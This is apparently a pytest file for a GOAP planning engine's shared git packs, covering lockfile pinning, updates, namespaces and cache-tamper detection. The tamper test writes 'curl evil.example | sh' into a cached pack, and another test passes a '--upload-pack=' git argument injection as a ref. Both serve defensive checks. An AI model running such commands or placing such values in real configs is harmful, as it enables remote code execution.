"""Two repositories reuse one git pack: pin, update, tamper, override."""

from __future__ import annotations

import json
import os
import stat
import subprocess
from pathlib import Path

import pytest
from click.testing import CliRunner

from goap_engine import find_plan, load
from goap_engine.cli import main

LINT_V1 = """\
version: 1
vars: {src: src}
state:
  lint_clean: bool
actions:
  lint:
    effects: {lint_clean: true}
    cost: 2
    run: ruff check {{ src }}
"""
LINT_V2 = LINT_V1.replace("cost: 2", "cost: 5")
TYPES = """\
version: 1
state:
  lint_clean: bool
actions:
  lint: {effects: {lint_clean: true}, cost: 1, run: mypy .}
"""


def git(cwd: Path, *args: str) -> str:
    return subprocess.run(
        ["git", *args], cwd=cwd, check=True, capture_output=True, text=True
    ).stdout.strip()


@pytest.fixture
def packs_repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Return a git repository of packs with a v1 tag; the cache lives in tmp."""
    for key, value in {
        "GIT_AUTHOR_NAME": "t",
        "GIT_AUTHOR_EMAIL": "t@example.invalid",
        "GIT_COMMITTER_NAME": "t",
        "GIT_COMMITTER_EMAIL": "t@example.invalid",
        "HOME": str(tmp_path),
        "GIT_CONFIG_NOSYSTEM": "1",
        "GOAP_CACHE_DIR": str(tmp_path / "cache"),
    }.items():
        monkeypatch.setenv(key, value)
    repo = tmp_path / "shared-packs"
    repo.mkdir()
    git(repo, "init", "-q", "-b", "main")
    (repo / "lint.yaml").write_text(LINT_V1)
    (repo / "types.yaml").write_text(TYPES)
    git(repo, "add", ".")
    git(repo, "commit", "-q", "-m", "packs v1")
    git(repo, "tag", "v1")
    return repo


def project(root: Path, name: str, uses: str, extra: str = "") -> Path:
    goal = root / name / "goals.d" / "ci.yaml"
    goal.parent.mkdir(parents=True)
    goal.write_text(f"version: 1\nuses:\n{uses}\ngoal: [lint_clean]\n{extra}")
    return goal


def invoke(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(main, list(args))
    return result.exit_code, result.output


def test_two_projects_share_a_pinned_pack(tmp_path: Path, packs_repo: Path) -> None:
    uses = f"  - git+file://{packs_repo}@v1#lint.yaml\n"
    one = project(tmp_path, "app1", uses)
    two = project(
        tmp_path,
        "app2",
        uses,
        "overrides:\n  lint: {run: echo linted elsewhere, cost: 1}\n",
    )
    assert find_plan(load(one)).cost == 2
    lock = json.loads((one.parent / "goap.lock").read_text())
    entry = lock["packs"][f"git+file://{packs_repo}@v1#lint.yaml"]
    assert entry["commit"] == git(packs_repo, "rev-parse", "v1")
    # The second project resolves from the same cache, and overrides one hook.
    ruleset = load(two)
    action = ruleset.action("lint")
    assert action.hook is not None and action.hook.target == "echo linted elsewhere"
    assert find_plan(ruleset).cost == 1
    assert len(list((tmp_path / "cache" / "trees").iterdir())) == 1
    code, out = invoke("packs", "list", str(two))
    assert code == 0 and "@ " + entry["commit"][:12] in out and "action lint" in out


def test_lock_holds_until_update(tmp_path: Path, packs_repo: Path) -> None:
    goal = project(tmp_path, "app", f"  - git+file://{packs_repo}@v1#lint.yaml\n")
    assert find_plan(load(goal)).cost == 2
    (packs_repo / "lint.yaml").write_text(LINT_V2)
    git(packs_repo, "commit", "-q", "-am", "costlier lint")
    git(packs_repo, "tag", "-f", "v1")
    # The lock pins the old commit: the moved tag changes nothing ...
    assert find_plan(load(goal)).cost == 2
    # ... until the pack is updated on purpose.
    code, out = invoke("packs", "update", str(goal))
    assert code == 0, out
    assert find_plan(load(goal)).cost == 5
    lock = json.loads((goal.parent / "goap.lock").read_text())
    assert next(iter(lock["packs"].values()))["commit"] == git(
        packs_repo, "rev-parse", "v1"
    )


def test_tampered_cache_is_detected(tmp_path: Path, packs_repo: Path) -> None:
    spec = f"git+file://{packs_repo}@v1#lint.yaml"
    goal = project(tmp_path, "app", f"  - {spec}\n")
    load(goal)
    cached = next((tmp_path / "cache" / "trees").iterdir()) / "lint.yaml"
    cached.chmod(stat.S_IWUSR | stat.S_IRUSR)
    cached.write_text(LINT_V1.replace("ruff check", "curl evil.example | sh"))
    code, out = invoke("validate", str(goal))
    assert code == 2
    assert f"pack '{spec}' changed" in out and "goap.lock says" in out


def test_name_clash_resolved_by_namespaces(tmp_path: Path, packs_repo: Path) -> None:
    goal = project(
        tmp_path,
        "app",
        f"  - {{git: 'file://{packs_repo}', ref: v1, path: lint.yaml}}\n"
        f"  - {{git: 'file://{packs_repo}', ref: v1, path: types.yaml, as: typing}}\n",
    )
    goal.write_text(
        goal.read_text().replace(
            "goal: [lint_clean]", "goal: [lint.lint_clean, typing.lint_clean]"
        )
    )
    ruleset = load(goal)
    assert sorted(a.name for a in ruleset.actions) == ["lint.lint", "typing.lint"]
    plan = find_plan(ruleset)
    assert sorted(s.action.name for s in plan.steps) == ["lint.lint", "typing.lint"]
    assert plan.cost == 3


def test_option_like_refs_are_refused(tmp_path: Path, packs_repo: Path) -> None:
    goal = project(tmp_path, "app", "  - git+file:///tmp/x@--upload-pack=touch\n")
    code, out = invoke("validate", str(goal))
    assert code == 2 and "uses" in out
    assert not (Path(os.getcwd()) / "touch").exists()
